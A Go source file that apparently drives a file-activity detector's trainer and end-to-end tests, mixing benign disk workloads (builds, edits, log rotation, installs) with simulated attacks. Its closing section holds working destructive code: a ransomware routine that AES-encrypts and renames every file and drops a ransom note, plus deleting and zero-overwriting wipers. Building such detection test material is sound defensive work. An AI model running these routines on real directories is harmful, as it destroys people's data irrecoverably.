// Package filework runs real file-system workloads in a directory, for the
// fileactivity trainer (models/cmd/vigil-train-fileactivity), the end-to-end
// tests (test/e2e/fileactivity_*) and the benchmarks: benign workloads
// (unpacking a source archive with tar, building C code with gcc, editing
// files the way editors and sed do, log rotation with gzip, a dpkg-like
// package install of real system files, saving office documents) and attacks
// (ransomware encrypting with AES and renaming, a wiper, packed and obfuscated
// files). Everything happens for real on disk, so the agent's watcher sees
// what it would see on a sensor; the choices (files, order, pacing) are
// deterministic for a seed.
package filework

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"debug/elf"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"time"
)

// Workload is one benign activity run in dir.
type Workload struct {
	Name string
	Run  func(ctx context.Context, dir string, seed uint64) error
}

// Benign lists the benign workloads.
func Benign() []Workload {
	return []Workload{
		{"unpack", Unpack},
		{"build", Build},
		{"edit", Edit},
		{"logrotate", LogRotate},
		{"install", Install},
		{"office", Office},
		{"cleanup", Cleanup},
	}
}

func rng(seed uint64) *rand.Rand { return rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)) }

func sleep(ctx context.Context, d time.Duration) error {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

// GoSourceFiles lists the files of a seed-chosen subset of $GOROOT/src
// (whole package directories, non-recursive) of about n files.
func GoSourceFiles(seed uint64, n int) (root string, rel []string, err error) {
	root = filepath.Join(runtime.GOROOT(), "src")
	if out, err := exec.Command("go", "env", "GOROOT").Output(); err == nil {
		if r := strings.TrimSpace(string(out)); r != "" {
			root = filepath.Join(r, "src")
		}
	}
	dirs := map[string][]string{}
	err = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.Type().IsRegular() {
			r, _ := filepath.Rel(root, p)
			dirs[filepath.Dir(r)] = append(dirs[filepath.Dir(r)], r)
		}
		return nil
	})
	if err != nil || len(dirs) == 0 {
		return "", nil, fmt.Errorf("list go sources under %s: %w", root, errors.Join(err, errors.New("no files")))
	}
	keys := make([]string, 0, len(dirs))
	for k := range dirs {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	r := rng(seed)
	r.Shuffle(len(keys), func(i, j int) { keys[i], keys[j] = keys[j], keys[i] })
	for _, k := range keys {
		if len(rel) >= n {
			break
		}
		if len(dirs[k]) > n/2 {
			continue
		}
		rel = append(rel, dirs[k]...)
	}
	sort.Strings(rel)
	return root, rel, nil
}

// CopySourceTree copies about n Go source files (seed-chosen) under dst,
// keeping their relative paths, and returns the paths written.
func CopySourceTree(dst string, seed uint64, n int) ([]string, error) {
	root, rel, err := GoSourceFiles(seed, n)
	if err != nil {
		return nil, err
	}
	var out []string
	for _, r := range rel {
		b, err := os.ReadFile(filepath.Join(root, r))
		if err != nil {
			continue
		}
		p := filepath.Join(dst, r)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return nil, fmt.Errorf("copy source tree: %w", err)
		}
		if err := os.WriteFile(p, b, 0o644); err != nil {
			return nil, fmt.Errorf("copy source tree: %w", err)
		}
		out = append(out, p)
	}
	return out, nil
}

// SourceArchive writes a .tar.gz of about n Go source files (seed-chosen)
// to path (outside any watched tree).
func SourceArchive(path string, seed uint64, n int) error {
	root, rel, err := GoSourceFiles(seed, n)
	if err != nil {
		return err
	}
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("source archive: %w", err)
	}
	defer f.Close()
	zw := gzip.NewWriter(f)
	tw := tar.NewWriter(zw)
	top := fmt.Sprintf("project-%d", seed%1000)
	for _, r := range rel {
		b, err := os.ReadFile(filepath.Join(root, r))
		if err != nil {
			continue
		}
		h := &tar.Header{Name: top + "/" + filepath.ToSlash(r), Mode: 0o644, Size: int64(len(b)),
			ModTime: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC), Typeflag: tar.TypeReg}
		if err := tw.WriteHeader(h); err != nil {
			return fmt.Errorf("source archive: %w", err)
		}
		if _, err := tw.Write(b); err != nil {
			return fmt.Errorf("source archive: %w", err)
		}
	}
	if err := tw.Close(); err != nil {
		return fmt.Errorf("source archive: %w", err)
	}
	if err := zw.Close(); err != nil {
		return fmt.Errorf("source archive: %w", err)
	}
	return f.Close()
}

// Unpack extracts a source archive (about 600-1200 Go files) into dir/src
// with tar (archive/tar when tar is missing).
func Unpack(ctx context.Context, dir string, seed uint64) error {
	tmp, err := os.MkdirTemp("", "filework-archive-")
	if err != nil {
		return fmt.Errorf("unpack: %w", err)
	}
	defer os.RemoveAll(tmp)
	arch := filepath.Join(tmp, "src.tar.gz")
	if err := SourceArchive(arch, seed, 600+int(seed%7)*100); err != nil {
		return err
	}
	return UnpackArchive(ctx, arch, filepath.Join(dir, "src"))
}

// UnpackArchive extracts a .tar.gz into dst.
func UnpackArchive(ctx context.Context, arch, dst string) error {
	if err := os.MkdirAll(dst, 0o755); err != nil {
		return fmt.Errorf("unpack: %w", err)
	}
	if _, err := exec.LookPath("tar"); err == nil {
		if out, err := exec.CommandContext(ctx, "tar", "-xzf", arch, "-C", dst).CombinedOutput(); err != nil {
			return fmt.Errorf("tar -xzf: %w: %s", err, out)
		}
		return nil
	}
	f, err := os.Open(arch)
	if err != nil {
		return fmt.Errorf("unpack: %w", err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		return fmt.Errorf("unpack: %w", err)
	}
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return nil
		}
		if err != nil {
			return fmt.Errorf("unpack: %w", err)
		}
		p := filepath.Join(dst, filepath.FromSlash(h.Name))
		if !strings.HasPrefix(p, filepath.Clean(dst)+string(filepath.Separator)) {
			continue
		}
		_ = os.MkdirAll(filepath.Dir(p), 0o755)
		b, err := io.ReadAll(io.LimitReader(tr, 64<<20))
		if err != nil {
			return fmt.Errorf("unpack: %w", err)
		}
		if err := os.WriteFile(p, b, 0o644); err != nil {
			return fmt.Errorf("unpack: %w", err)
		}
	}
}

// Cleanup is what every build host and file share does after a job: a
// scratch tree (a source archive unpacked for a build, a temporary export)
// lives for a few seconds and is then removed whole with `rm -rf` (files and
// folders; os.RemoveAll when rm is missing), and a few stale files (editor
// backups, old downloads) are deleted one by one.
func Cleanup(ctx context.Context, dir string, seed uint64) error {
	r := rng(seed)
	tmp, err := os.MkdirTemp("", "filework-archive-")
	if err != nil {
		return fmt.Errorf("cleanup: %w", err)
	}
	defer os.RemoveAll(tmp)
	arch := filepath.Join(tmp, "job.tar.gz")
	if err := SourceArchive(arch, seed, 100+r.IntN(500)); err != nil {
		return err
	}
	scratch := filepath.Join(dir, "tmp", fmt.Sprintf("job-%d", r.IntN(100000)))
	if err := UnpackArchive(ctx, arch, scratch); err != nil {
		return fmt.Errorf("cleanup: %w", err)
	}
	stale := filepath.Join(dir, "tmp", "stale")
	if err := os.MkdirAll(stale, 0o755); err != nil {
		return fmt.Errorf("cleanup: %w", err)
	}
	var old []string
	for i := range 3 + r.IntN(10) {
		p := filepath.Join(stale, fmt.Sprintf("%s-%d%s", []string{"notes", "report", "export", "draft"}[r.IntN(4)], i,
			[]string{".txt~", ".bak", ".swp", ".csv", ".old"}[r.IntN(5)]))
		if err := os.WriteFile(p, []byte(strings.Repeat(fmt.Sprintf("line %d of a stale file\n", i), 1+r.IntN(200))), 0o644); err != nil {
			return fmt.Errorf("cleanup: %w", err)
		}
		old = append(old, p)
	}
	if err := sleep(ctx, time.Duration(1000+r.IntN(3000))*time.Millisecond); err != nil {
		return err
	}
	if rm, err := exec.LookPath("rm"); err == nil {
		if out, err := exec.CommandContext(ctx, rm, "-rf", scratch).CombinedOutput(); err != nil {
			return fmt.Errorf("rm -rf: %w: %s", err, out)
		}
	} else if err := os.RemoveAll(scratch); err != nil {
		return fmt.Errorf("cleanup: %w", err)
	}
	for _, p := range old {
		if err := sleep(ctx, time.Duration(20+r.IntN(300))*time.Millisecond); err != nil {
			return err
		}
		_ = os.Remove(p)
	}
	return nil
}

// cSource is a small but varied C translation unit.
func cSource(r *rand.Rand, name string, i int) string {
	var b strings.Builder
	fmt.Fprintf(&b, "/* %s: generated module %d */\n#include <stdio.h>\n#include <string.h>\n#include <stdlib.h>\n\n", name, i)
	nf := 2 + r.IntN(6)
	for f := range nf {
		fmt.Fprintf(&b, "static const char *msg_%d_%d = \"module %d function %d says %x\";\n", i, f, i, f, r.Uint32())
		fmt.Fprintf(&b, "int %s_fn%d(int a, const char *s) {\n\tint acc = %d;\n", name, f, r.IntN(1000))
		for l := range 2 + r.IntN(12) {
			switch r.IntN(4) {
			case 0:
				fmt.Fprintf(&b, "\tfor (int k = 0; k < a + %d; k++) acc += k * %d;\n", l, r.IntN(97))
			case 1:
				fmt.Fprintf(&b, "\tif (s && strlen(s) > %d) acc ^= (int)s[%d];\n", l, l)
			case 2:
				fmt.Fprintf(&b, "\tacc = (acc << %d) | (acc >> %d);\n", 1+r.IntN(7), 1+r.IntN(7))
			default:
				fmt.Fprintf(&b, "\tif (acc %% %d == 0) printf(\"%%s %%d\\n\", msg_%d_%d, acc);\n", 2+r.IntN(9), i, f)
			}
		}
		b.WriteString("\treturn acc;\n}\n\n")
	}
	return b.String()
}

// Build compiles generated C sources with gcc (objects, dependency files, a
// static library, a linked program), then writes many .o files the way
// build systems do (a temporary name renamed into place). Without gcc, real
// ELF files from /usr/bin stand in for the objects.
func Build(ctx context.Context, dir string, seed uint64) error {
	r := rng(seed)
	src := filepath.Join(dir, "build", "src")
	obj := filepath.Join(dir, "build", "obj")
	for _, d := range []string{src, obj} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			return fmt.Errorf("build: %w", err)
		}
	}
	n := 12 + r.IntN(12)
	gcc, gccErr := exec.LookPath("gcc")
	var objs []string
	for i := range n {
		name := fmt.Sprintf("mod%02d", i)
		c := filepath.Join(src, name+".c")
		if err := os.WriteFile(c, []byte(cSource(r, name, i)), 0o644); err != nil {
			return fmt.Errorf("build: %w", err)
		}
		o := filepath.Join(obj, name+".o")
		if gccErr == nil {
			cmd := exec.CommandContext(ctx, gcc, "-c", "-O"+fmt.Sprint(r.IntN(3)), "-MMD", "-MF", filepath.Join(obj, name+".d"), "-o", o, c)
			if out, err := cmd.CombinedOutput(); err != nil {
				return fmt.Errorf("gcc: %w: %s", err, out)
			}
		} else if err := copyFile(pickELF(r), o, 0o644); err != nil {
			return err
		}
		objs = append(objs, o)
	}
	if gccErr == nil {
		main := filepath.Join(src, "main.c")
		if err := os.WriteFile(main, []byte("int main(void){return 0;}\n"), 0o644); err != nil {
			return fmt.Errorf("build: %w", err)
		}
		if ar, err := exec.LookPath("ar"); err == nil {
			_ = exec.CommandContext(ctx, ar, "rcs", filepath.Join(obj, "libmods.a"), objs[0], objs[1]).Run()
		}
		if out, err := exec.CommandContext(ctx, gcc, "-o", filepath.Join(dir, "build", "app"), main).CombinedOutput(); err != nil {
			return fmt.Errorf("gcc link: %w: %s", err, out)
		}
	}
	// Many objects: a parallel build writes each to a temporary name and
	// renames it into place.
	m := 150 + r.IntN(150)
	for i := range m {
		b, err := os.ReadFile(objs[r.IntN(len(objs))])
		if err != nil {
			return fmt.Errorf("build: %w", err)
		}
		pkg := filepath.Join(obj, fmt.Sprintf("pkg%d", i%9))
		_ = os.MkdirAll(pkg, 0o755)
		final := filepath.Join(pkg, fmt.Sprintf("unit%03d.o", i))
		tmp := final + fmt.Sprintf(".tmp%d", r.IntN(100000))
		if r.IntN(2) == 0 {
			tmp = final
		}
		if err := os.WriteFile(tmp, b, 0o644); err != nil {
			return fmt.Errorf("build: %w", err)
		}
		if tmp != final {
			if err := os.Rename(tmp, final); err != nil {
				return fmt.Errorf("build: %w", err)
			}
		}
		if i%40 == 39 {
			if err := sleep(ctx, time.Duration(20+r.IntN(200))*time.Millisecond); err != nil {
				return err
			}
		}
	}
	return nil
}

// textFiles lists regular text-like files under dir (sorted).
func textFiles(dir string) []string {
	var out []string
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			switch filepath.Ext(p) {
			case ".go", ".c", ".h", ".txt", ".md", ".s", ".html", ".js", ".css", ".php", ".py", ".sh", ".json":
				out = append(out, p)
			}
		}
		return nil
	})
	sort.Strings(out)
	return out
}

// Edit edits text files the way people and tools do: vim (swap file,
// backup~, write), sed -i (temporary file renamed over the original),
// appending. It creates a few source files first when dir has none.
func Edit(ctx context.Context, dir string, seed uint64) error {
	r := rng(seed)
	files := textFiles(dir)
	if len(files) < 10 {
		made, err := CopySourceTree(filepath.Join(dir, "work"), seed, 60)
		if err != nil {
			return err
		}
		files = made
	}
	n := 25 + r.IntN(25)
	for i := range n {
		p := files[r.IntN(len(files))]
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		line := fmt.Sprintf("\n// edit %d: %x\n", i, r.Uint64())
		switch r.IntN(3) {
		case 0: // vim
			swp := filepath.Join(filepath.Dir(p), "."+filepath.Base(p)+".swp")
			hdr := make([]byte, 4096)
			copy(hdr, "b0VIM 9.0\x00\x00\x00\x00\x10\x00\x00user\x00host\x00"+p)
			if err := os.WriteFile(swp, hdr, 0o600); err != nil {
				return fmt.Errorf("edit: %w", err)
			}
			if err := sleep(ctx, time.Duration(50+r.IntN(300))*time.Millisecond); err != nil {
				return err
			}
			if r.IntN(2) == 0 {
				_ = os.WriteFile(p+"~", b, 0o644)
			}
			if err := os.WriteFile(p, append(b, line...), 0o644); err != nil {
				return fmt.Errorf("edit: %w", err)
			}
			_ = os.Remove(swp)
		case 1: // sed -i
			tmp := filepath.Join(filepath.Dir(p), fmt.Sprintf("sed%06X", r.IntN(1<<24)))
			nb := bytes.ReplaceAll(b, []byte("err"), []byte("e"))
			if err := os.WriteFile(tmp, append(nb, line...), 0o644); err != nil {
				return fmt.Errorf("edit: %w", err)
			}
			if err := os.Rename(tmp, p); err != nil {
				return fmt.Errorf("edit: %w", err)
			}
		default: // append
			f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				continue
			}
			_, _ = f.WriteString(line)
			_ = f.Close()
		}
		if err := sleep(ctx, time.Duration(30+r.IntN(250))*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}

// LogRotate writes log lines to a few logs and rotates them like logrotate
// (rename .N to .N+1, gzip, delete the oldest, start a new log).
func LogRotate(ctx context.Context, dir string, seed uint64) error {
	r := rng(seed)
	logs := filepath.Join(dir, "log")
	if err := os.MkdirAll(logs, 0o755); err != nil {
		return fmt.Errorf("logrotate: %w", err)
	}
	apps := []string{"app", "nginx-access", "worker", "audit"}[:2+r.IntN(3)]
	gz, gzErr := exec.LookPath("gzip")
	for round := range 3 + r.IntN(2) {
		for tick := range 8 + r.IntN(8) {
			for _, a := range apps {
				f, err := os.OpenFile(filepath.Join(logs, a+".log"), os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o640)
				if err != nil {
					return fmt.Errorf("logrotate: %w", err)
				}
				for l := range 5 + r.IntN(40) {
					fmt.Fprintf(f, "2025-06-01T12:%02d:%02d.%03dZ INFO %s request id=%x path=/api/v1/items/%d status=%d dur=%dms\n",
						round, tick, l, a, r.Uint32(), r.IntN(10000), []int{200, 200, 200, 404, 500}[r.IntN(5)], r.IntN(900))
				}
				_ = f.Close()
			}
			if err := sleep(ctx, time.Duration(40+r.IntN(120))*time.Millisecond); err != nil {
				return err
			}
		}
		for _, a := range apps {
			base := filepath.Join(logs, a+".log")
			_ = os.Remove(base + ".4.gz")
			for k := 3; k >= 2; k-- {
				_ = os.Rename(fmt.Sprintf("%s.%d.gz", base, k), fmt.Sprintf("%s.%d.gz", base, k+1))
			}
			if _, err := os.Stat(base + ".1"); err == nil {
				_ = os.Rename(base+".1", base+".2")
				if gzErr == nil {
					_ = exec.CommandContext(ctx, gz, "-f", base+".2").Run()
				}
			}
			_ = os.Rename(base, base+".1")
			if f, err := os.OpenFile(base, os.O_CREATE|os.O_WRONLY, 0o640); err == nil {
				_ = f.Close()
			}
		}
	}
	return nil
}

var installSources = []struct {
	dir   string
	globs []string
	max   int
}{
	{"/usr/bin", []string{"*"}, 60},
	{"/usr/lib/x86_64-linux-gnu", []string{"*.so*"}, 40},
	{"/usr/share/doc", []string{"*/copyright", "*/changelog*.gz", "*/*.md", "*/README*"}, 80},
	{"/usr/share/man/man1", []string{"*.gz"}, 50},
	{"/usr/lib/python3", []string{"dist-packages/*/*.py", "dist-packages/*.py"}, 40},
	{"/usr/lib/python3.11", []string{"*.py", "json/*.py", "email/*.py"}, 50},
	{"/usr/share/zoneinfo", []string{"Europe/*", "America/*"}, 30},
	{"/usr/share/icons", []string{"*/*/*/*.png", "*/*/*/*.svg"}, 20},
	{"/usr/share/perl5", []string{"*.pm", "*/*.pm"}, 20},
	{"/etc", []string{"*.conf"}, 15},
}

// installCandidates lists real system files a package could hold.
func installCandidates(r *rand.Rand) []string {
	var out []string
	for _, s := range installSources {
		var got []string
		for _, g := range s.globs {
			m, _ := filepath.Glob(filepath.Join(s.dir, g))
			for _, p := range m {
				if st, err := os.Lstat(p); err == nil && st.Mode().IsRegular() && st.Size() < 8<<20 {
					got = append(got, p)
				}
			}
		}
		sort.Strings(got)
		r.Shuffle(len(got), func(i, j int) { got[i], got[j] = got[j], got[i] })
		out = append(out, got[:min(len(got), s.max)]...)
	}
	return out
}

// Install installs real system files (executables, shared libraries,
// documentation, manual pages, Python and Perl modules, time zones, icons)
// into dir/pkgroot the way dpkg does: each file is written as NAME.dpkg-new,
// then renamed into place, executables get their mode, and a list file is
// written.
func Install(ctx context.Context, dir string, seed uint64) error {
	r := rng(seed)
	cands := installCandidates(r)
	r.Shuffle(len(cands), func(i, j int) { cands[i], cands[j] = cands[j], cands[i] })
	cands = cands[:min(len(cands), 200+r.IntN(200))]
	root := filepath.Join(dir, "pkgroot")
	var list strings.Builder
	for i, src := range cands {
		b, err := os.ReadFile(src)
		if err != nil {
			continue
		}
		st, _ := os.Stat(src)
		dst := filepath.Join(root, src)
		if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
			return fmt.Errorf("install: %w", err)
		}
		if err := os.WriteFile(dst+".dpkg-new", b, 0o644); err != nil {
			return fmt.Errorf("install: %w", err)
		}
		if st != nil && st.Mode()&0o111 != 0 {
			_ = os.Chmod(dst+".dpkg-new", 0o755)
		}
		if err := os.Rename(dst+".dpkg-new", dst); err != nil {
			return fmt.Errorf("install: %w", err)
		}
		list.WriteString(src + "\n")
		if i%50 == 49 {
			if err := sleep(ctx, time.Duration(10+r.IntN(100))*time.Millisecond); err != nil {
				return err
			}
		}
	}
	info := filepath.Join(root, "var", "lib", "dpkg", "info")
	_ = os.MkdirAll(info, 0o755)
	name := fmt.Sprintf("pkg%d", seed%1000)
	if err := os.WriteFile(filepath.Join(info, name+".list"), []byte(list.String()), 0o644); err != nil {
		return fmt.Errorf("install: %w", err)
	}
	return nil
}

// DocFile returns the bytes of an ordinary document of the given kind
// ("docx", "png", "pdf", "txt", "csv", "md", "html", "js", "php", "css",
// "sh", "py").
func DocFile(r *rand.Rand, kind string) []byte {
	words := []string{"report", "quarterly", "budget", "meeting", "the", "and", "of", "network", "sensor",
		"customer", "invoice", "total", "project", "plan", "review", "status", "risk", "schedule", "for", "with"}
	para := func(n int) string {
		var b strings.Builder
		for i := range n {
			if i > 0 {
				b.WriteByte(' ')
			}
			b.WriteString(words[r.IntN(len(words))])
		}
		return b.String()
	}
	switch kind {
	case "docx":
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		w, _ := zw.Create("[Content_Types].xml")
		_, _ = io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`)
		w, _ = zw.Create("word/document.xml")
		fmt.Fprintf(w, `<?xml version="1.0"?><w:document><w:body>`)
		for range 20 + r.IntN(80) {
			fmt.Fprintf(w, "<w:p><w:r><w:t>%s</w:t></w:r></w:p>", para(10+r.IntN(30)))
		}
		_, _ = io.WriteString(w, "</w:body></w:document>")
		_ = zw.Close()
		return buf.Bytes()
	case "png":
		wd, ht := 32+r.IntN(200), 32+r.IntN(200)
		img := image.NewRGBA(image.Rect(0, 0, wd, ht))
		c0 := r.IntN(255)
		for y := range ht {
			for x := range wd {
				img.Set(x, y, color.RGBA{uint8(x + c0), uint8(y * 2), uint8(x ^ y), 255})
			}
		}
		var buf bytes.Buffer
		_ = png.Encode(&buf, img)
		return buf.Bytes()
	case "pdf":
		var content bytes.Buffer
		zw, _ := zlibWriter(&content)
		for range 10 + r.IntN(40) {
			fmt.Fprintf(zw, "BT /F1 12 Tf 72 %d Td (%s) Tj ET\n", r.IntN(700), para(8))
		}
		_ = zw.Close()
		var b bytes.Buffer
		b.WriteString("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n")
		b.WriteString("2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n")
		b.WriteString("3 0 obj << /Type /Page /Parent 2 0 R /Contents 4 0 R >> endobj\n")
		fmt.Fprintf(&b, "4 0 obj << /Length %d /Filter /FlateDecode >> stream\n", content.Len())
		b.Write(content.Bytes())
		b.WriteString("\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
		return b.Bytes()
	case "csv":
		var b strings.Builder
		b.WriteString("date,item,amount,owner\n")
		for i := range 20 + r.IntN(200) {
			fmt.Fprintf(&b, "2025-%02d-%02d,%s,%d.%02d,%s\n", 1+i%12, 1+i%28, words[r.IntN(len(words))], r.IntN(10000), r.IntN(100), words[r.IntN(len(words))])
		}
		return []byte(b.String())
	case "html":
		return []byte(fmt.Sprintf("<!DOCTYPE html>\n<html><head><title>%s</title><link rel=\"stylesheet\" href=\"site.css\"></head>\n<body>\n<h1>%s</h1>\n<p>%s</p>\n<script src=\"app.js\"></script>\n</body></html>\n", para(3), para(4), para(60+r.IntN(200))))
	case "js":
		var b strings.Builder
		b.WriteString("'use strict';\n")
		for i := range 5 + r.IntN(20) {
			fmt.Fprintf(&b, "function handler%d(event) {\n  const items = document.querySelectorAll('.item-%d');\n  items.forEach((el, idx) => { el.textContent = `%s ${idx}`; });\n  return fetch('/api/v1/%s?id=' + encodeURIComponent(event.target.id)).then(r => r.json());\n}\n", i, i, para(4), words[r.IntN(len(words))])
		}
		return []byte(b.String())
	case "php":
		var b strings.Builder
		b.WriteString("<?php\nrequire_once __DIR__ . '/config.php';\n")
		for i := range 3 + r.IntN(10) {
			fmt.Fprintf(&b, "function page_%d($db, $id) {\n    $stmt = $db->prepare('SELECT * FROM items WHERE id = ?');\n    $stmt->execute([$id]);\n    echo htmlspecialchars(\"%s\");\n    return $stmt->fetchAll();\n}\n", i, para(6))
		}
		return []byte(b.String())
	case "css":
		var b strings.Builder
		for i := range 10 + r.IntN(40) {
			fmt.Fprintf(&b, ".item-%d { margin: %dpx; color: #%06x; font-family: sans-serif; }\n", i, r.IntN(20), r.IntN(1<<24))
		}
		return []byte(b.String())
	case "sh":
		return []byte(fmt.Sprintf("#!/bin/sh\nset -eu\n# %s\nfor f in \"$@\"; do\n  echo \"processing $f\"\n  cp -- \"$f\" /var/backups/ || exit 1\ndone\nlogger -t backup \"%s\"\n", para(8), para(5)))
	case "py":
		return []byte(fmt.Sprintf("#!/usr/bin/env python3\n\"\"\"%s\"\"\"\nimport sys\n\n\ndef main(argv):\n    for a in argv[1:]:\n        print(a, %d)\n    return 0\n\n\nif __name__ == '__main__':\n    sys.exit(main(sys.argv))\n", para(10), r.IntN(100)))
	case "md":
		return []byte("# " + para(4) + "\n\n" + para(80+r.IntN(200)) + "\n\n- " + para(6) + "\n- " + para(6) + "\n")
	default:
		return []byte(para(100+r.IntN(400)) + "\n")
	}
}

// DocKinds are the kinds DocFile knows.
var DocKinds = []string{"docx", "png", "pdf", "txt", "csv", "md", "html", "js", "php", "css", "sh", "py"}

// Office saves documents, images and web files into dir/share the way
// office programs do (a lock file while editing, save to a temporary name,
// rename over the document).
func Office(ctx context.Context, dir string, seed uint64) error {
	r := rng(seed)
	share := filepath.Join(dir, "share", fmt.Sprintf("team%d", seed%10))
	if err := os.MkdirAll(share, 0o755); err != nil {
		return fmt.Errorf("office: %w", err)
	}
	for i := range 30 + r.IntN(40) {
		kind := DocKinds[r.IntN(len(DocKinds))]
		p := filepath.Join(share, fmt.Sprintf("%s-%d.%s", []string{"notes", "plan", "report", "index", "site", "util"}[r.IntN(6)], i, kind))
		b := DocFile(r, kind)
		mode := os.FileMode(0o644)
		if kind == "sh" || kind == "py" {
			mode = 0o755
		}
		if kind == "docx" || kind == "csv" {
			lock := filepath.Join(share, ".~lock."+filepath.Base(p)+"#")
			_ = os.WriteFile(lock, []byte("user,host,/home/user,01.06.2025 12:00;"), 0o644)
			tmp := filepath.Join(share, fmt.Sprintf("lu%d.tmp", r.IntN(1<<20)))
			if err := os.WriteFile(tmp, b, mode); err != nil {
				return fmt.Errorf("office: %w", err)
			}
			if err := os.Rename(tmp, p); err != nil {
				return fmt.Errorf("office: %w", err)
			}
			_ = os.Remove(lock)
		} else if err := os.WriteFile(p, b, mode); err != nil {
			return fmt.Errorf("office: %w", err)
		}
		if err := sleep(ctx, time.Duration(20+r.IntN(200))*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}

func copyFile(src, dst string, mode os.FileMode) error {
	b, err := os.ReadFile(src)
	if err != nil {
		return fmt.Errorf("copy %s: %w", src, err)
	}
	if err := os.WriteFile(dst, b, mode); err != nil {
		return fmt.Errorf("copy %s: %w", src, err)
	}
	return nil
}

// pickELF returns a real ELF executable of the system.
func pickELF(r *rand.Rand) string {
	c := ELFs()
	if len(c) == 0 {
		return "/proc/self/exe"
	}
	return c[r.IntN(len(c))]
}

// ELFs lists some ordinary ELF executables of the system (sorted).
func ELFs() []string {
	var out []string
	for _, n := range []string{"ls", "cat", "cp", "mv", "grep", "sed", "tar", "gzip", "find", "sort", "date", "touch", "mkdir", "chmod", "head", "tail", "wc", "uniq", "tr", "cut"} {
		for _, d := range []string{"/usr/bin", "/bin"} {
			p := filepath.Join(d, n)
			if f, err := elf.Open(p); err == nil {
				_ = f.Close()
				out = append(out, p)
				break
			}
		}
	}
	return out
}

// ---- attacks ----

// Encrypt returns b encrypted with AES-256-CTR (key and IV derived from seed).
func Encrypt(b []byte, seed uint64) []byte {
	var key [32]byte
	var iv [16]byte
	r := rng(seed)
	for i := range key {
		key[i] = byte(r.Uint32())
	}
	for i := range iv {
		iv[i] = byte(r.Uint32())
	}
	blk, _ := aes.NewCipher(key[:])
	out := make([]byte, len(b))
	cipher.NewCTR(blk, iv[:]).XORKeyStream(out, b)
	return out
}

// Ransomware encrypts every regular file under dir with AES (in place) and
// renames it with ext (e.g. ".locked"), as fast as it can, then drops a
// ransom note. It returns the number of files encrypted.
func Ransomware(ctx context.Context, dir, ext string, seed uint64) (int, error) {
	var files []string
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			files = append(files, p)
		}
		return nil
	})
	n := 0
	for i, p := range files {
		if ctx.Err() != nil {
			return n, ctx.Err()
		}
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		if err := os.WriteFile(p, Encrypt(b, seed+uint64(i)), 0o644); err != nil {
			return n, fmt.Errorf("ransomware: %w", err)
		}
		if err := os.Rename(p, p+ext); err != nil {
			return n, fmt.Errorf("ransomware: %w", err)
		}
		n++
	}
	note := "YOUR FILES ARE ENCRYPTED. Send 1 BTC to ... to get the key.\n"
	_ = os.WriteFile(filepath.Join(dir, "README_DECRYPT.txt"), []byte(note), 0o644)
	return n, nil
}

// Wiper deletes every regular file under dir (then the empty folders) and
// returns the number of files deleted.
func Wiper(ctx context.Context, dir string) (int, error) {
	var files, dirs []string
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.Type().IsRegular() {
			files = append(files, p)
		} else if d.IsDir() && p != dir {
			dirs = append(dirs, p)
		}
		return nil
	})
	n := 0
	for _, p := range files {
		if ctx.Err() != nil {
			return n, ctx.Err()
		}
		if os.Remove(p) == nil {
			n++
		}
	}
	for i := len(dirs) - 1; i >= 0; i-- {
		_ = os.Remove(dirs[i])
	}
	return n, nil
}

// OverwriteWiper destroys every regular file under dir in place, the way
// CaddyWiper does: the content is overwritten with zeros (the file's length,
// at most 10 MiB), the names stay. It returns the number of files
// overwritten. Unlike deletion (Wiper), the data cannot be recovered.
func OverwriteWiper(ctx context.Context, dir string) (int, error) {
	var files []string
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			files = append(files, p)
		}
		return nil
	})
	zero := make([]byte, 64<<10)
	n := 0
	for _, p := range files {
		if ctx.Err() != nil {
			return n, ctx.Err()
		}
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err != nil {
			continue
		}
		fi, err := f.Stat()
		if err == nil {
			for left := min(fi.Size(), 10<<20); left > 0 && err == nil; left -= int64(len(zero)) {
				_, err = f.Write(zero[:min(left, int64(len(zero)))])
			}
		}
		if cerr := f.Close(); err == nil && cerr == nil {
			n++
		}
	}
	return n, nil
}

// PackedELF builds, in memory, a copy of the ELF executable src whose code
// section (.text) is overwritten with AES-encrypted bytes: what a crypter
// leaves (headers intact, code unreadable).
